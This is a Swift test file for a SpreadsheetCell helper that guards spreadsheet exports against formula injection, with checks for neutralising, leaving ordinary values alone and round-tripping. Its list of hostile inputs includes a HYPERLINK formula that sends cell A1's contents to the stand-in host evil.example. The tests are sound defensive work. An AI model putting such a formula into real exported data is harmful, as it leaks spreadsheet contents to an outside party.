import PermitCore
import Testing

@Suite("SpreadsheetCell — exports never carry a formula")
struct SpreadsheetCellTests {
    static let hostile = [
        #"=HYPERLINK("http://evil.example/?"&A1,"点击查看")"#, "+86 21 5888 0000", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    ]

    @Test("cells a spreadsheet would run are written as text", arguments: hostile)
    func neutralised(value: String) {
        #expect(SpreadsheetCell.neutralised(value) == "'" + value)
    }

    @Test("ordinary cells are written as they are", arguments: ["上海某某机械有限公司", "91310115MA1H7AAB3X", "", "'quoted", "a=b"])
    func untouched(value: String) {
        #expect(SpreadsheetCell.neutralised(value) == value)
    }

    @Test("every value reads back as itself", arguments: hostile + ["'=1", "''=1", "'", "'x", "上海", "", "'-5"])
    func roundTrip(value: String) {
        #expect(SpreadsheetCell.restored(SpreadsheetCell.neutralised(value)) == value)
    }

    @Test("a cell typed by hand with its own apostrophe keeps it unless it guards a formula")
    func handTyped() {
        #expect(SpreadsheetCell.restored("'上海") == "'上海")
        #expect(SpreadsheetCell.restored("'=1") == "=1")
    }
}
